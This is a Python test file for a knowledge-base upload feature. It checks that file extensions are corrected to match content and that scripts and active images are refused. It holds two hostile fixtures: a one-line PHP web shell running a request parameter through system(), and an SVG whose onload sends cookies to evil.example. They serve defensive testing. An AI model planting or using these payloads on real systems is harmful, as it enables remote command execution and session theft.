"""A stored file's name agrees with its content: ``deck.pdf.exe`` is stored as ``deck.pdf``; ``shell.php`` and
``img.svg`` are refused, by the publishing domain, the upload form and the API, with nothing stored half-way."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select

import fixtures_files as F
from conftest import csrf_from
from kb import accounts
from kb.extraction import RejectedFile
from kb.extraction.filenames import agreeing_name
from kb.extraction.types import CSV, DOCX, HTML, MARKDOWN, PDF, PPTM, TXT
from kb.models import Asset, AssetVersion
from kb.publishing import FileUpload
from publishing_helpers import fields, publisher_for

# A one-line PHP web shell and an SVG that runs a script when opened: what an attacker uploads to a file store.
WEB_SHELL = b"<?php if (isset($_REQUEST['cmd'])) { system($_REQUEST['cmd']); } ?>\n"
SCRIPTED_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    b'onload="fetch(\'https://evil.example/?c=\'+document.cookie)"><rect width="10" height="10"/></svg>\n'
)


@pytest.mark.parametrize(
    ("name", "file_type", "expected"),
    [
        ("deck.pdf.exe", PDF, "deck.pdf"),
        ("Презентация.PDF", PDF, "Презентация.PDF"),
        ("offer.bin", PDF, "offer.pdf"),
        ("price", PDF, "price.pdf"),
        ("Отчёт v1.2", PDF, "Отчёт v1.2.pdf"),
        ("shell.php", PDF, "shell.pdf"),  # the content is a PDF: the name was what lied
        ("deck.pptx", PPTM, "deck.pptm"),
        ("memo.doc", DOCX, "memo.docx"),
        ("notes.md", MARKDOWN, "notes.md"),
        ("page.htm", HTML, "page.htm"),
        ("prices.tsv", CSV, "prices.tsv"),
        ("server.log", TXT, "server.log.txt"),
        ("readme.txt.exe", TXT, None),
    ],
)
def test_the_extension_follows_the_content(name: str, file_type, expected: str | None) -> None:
    if expected is None:
        with pytest.raises(RejectedFile, match=r"kb does not accept \.exe files"):
            agreeing_name(name, file_type)
    else:
        assert agreeing_name(name, file_type) == expected


# --- The publishing domain ------------------------------------------------------------------------------------


@pytest.fixture
def marketing(make_user):
    return make_user("marketing", display_name="Мария")


def _nothing_stored(app, db) -> None:
    publisher = publisher_for(app)
    assert list(publisher.blobs.all_digests()) == [] and publisher.blobs.stray_temporaries() == []
    with db.session() as session:
        assert session.scalar(select(func.count()).select_from(Asset)) == 0
        assert session.scalar(select(func.count()).select_from(AssetVersion)) == 0


def test_a_pdf_named_exe_is_stored_as_a_pdf(app, db, marketing, tmp_path: Path) -> None:
    pdf = F.make_pdf(tmp_path / "deck.pdf", ["Коммерческое предложение"])

    with pdf.open("rb") as handle:
        published = publisher_for(app).create_asset(marketing.id, fields(marketing), FileUpload(handle, "deck.pdf.exe"))

    assert (published.filename, published.renamed_from) == ("deck.pdf", "deck.pdf.exe")
    with db.session() as session:
        version = session.get(AssetVersion, published.version_id)
        assert version.original_filename == "deck.pdf" and version.media_type == "application/pdf"


def test_a_name_without_an_extension_gets_one_without_a_note(app, marketing, tmp_path: Path) -> None:
    pdf = F.make_pdf(tmp_path / "deck.pdf", ["Коммерческое предложение"])

    with pdf.open("rb") as handle:
        published = publisher_for(app).create_asset(marketing.id, fields(marketing), FileUpload(handle, "deck"))

    assert (published.filename, published.renamed_from) == ("deck.pdf", None)


@pytest.mark.parametrize(("content", "name"), [(WEB_SHELL, "shell.php"), (SCRIPTED_SVG, "img.svg")])
def test_scripts_and_active_images_are_refused_with_nothing_stored(app, db, marketing, content, name) -> None:
    publisher = publisher_for(app)

    with pytest.raises(RejectedFile) as caught:
        publisher.create_asset(marketing.id, fields(marketing), FileUpload(io.BytesIO(content), name))

    extension = "." + name.rsplit(".", 1)[1]
    assert caught.value.status == 400 and caught.value.field == "file"
    assert str(caught.value).startswith(f"kb does not accept {extension} files")
    assert "Accepted: PDF, Word (DOCX)" in str(caught.value)
    _nothing_stored(app, db)


# --- The upload form and the API ------------------------------------------------------------------------------


def _post_form(client, content: bytes, name: str):
    page = client.get("/assets/new").get_data(as_text=True)
    form = {
        "csrf_token": csrf_from(page),
        "mode": "file",
        "title": "Каталог насосов НВ",
        "kind": "catalog",
        "language": "ru",
        "status": "published",
        "owner_id": re.search(r'<option selected value="(\d+)"', page).group(1),
        "file": (io.BytesIO(content), name),
    }
    return client.post("/assets", data=form, content_type="multipart/form-data")


def test_the_form_refuses_a_web_shell_beside_the_file_field(app, db, signed_in, client) -> None:
    signed_in("marketing")

    response = _post_form(client, WEB_SHELL, "shell.php")

    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "kb does not accept .php files" in html and "Kept from your last try" not in html
    _nothing_stored(app, db)


def test_the_form_says_under_which_name_a_renamed_file_is_stored(app, signed_in, client, tmp_path: Path) -> None:
    signed_in("marketing")
    pdf = F.make_pdf(tmp_path / "deck.pdf", ["Коммерческое предложение"]).read_bytes()

    response = _post_form(client, pdf, "deck.pdf.exe")

    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "The file is stored as deck.pdf: its content is of that type, whatever the name deck.pdf.exe said." in page


@pytest.fixture
def token_headers(make_user, db):
    user = make_user("marketing", display_name="Мария")
    return {"Authorization": f"Bearer {accounts.create_token(db, user.id, 'crm').secret}"}


def _api_create(client, headers, content: bytes, name: str):
    data = {"title": "Deck", "kind": "presentation", "language": "en", "file": (io.BytesIO(content), name)}
    return client.post("/api/v1/assets", data=data, headers=headers, content_type="multipart/form-data")


def test_the_api_refuses_an_svg_with_a_400_and_a_message(app, db, client, token_headers) -> None:
    response = _api_create(client, token_headers, SCRIPTED_SVG, "img.svg")

    assert response.status_code == 400
    assert response.json["error"]["message"].startswith("kb does not accept .svg files")
    _nothing_stored(app, db)


def test_the_api_warns_of_a_renamed_file(client, token_headers, tmp_path: Path) -> None:
    pdf = F.make_pdf(tmp_path / "deck.pdf", ["Deck"]).read_bytes()

    response = _api_create(client, token_headers, pdf, "deck.pdf.exe")

    assert response.status_code == 201
    assert response.json["versions"][0]["file_name"] == "deck.pdf"
    assert {"code": "renamed", "filename": "deck.pdf", "uploaded_filename": "deck.pdf.exe"}.items() <= response.json[
        "warnings"
    ][0].items()
    download = client.get(response.json["versions"][0]["download_url"], headers=token_headers)
    download.close()
    assert (
        "deck.pdf" in download.headers["Content-Disposition"] and ".exe" not in download.headers["Content-Disposition"]
    )
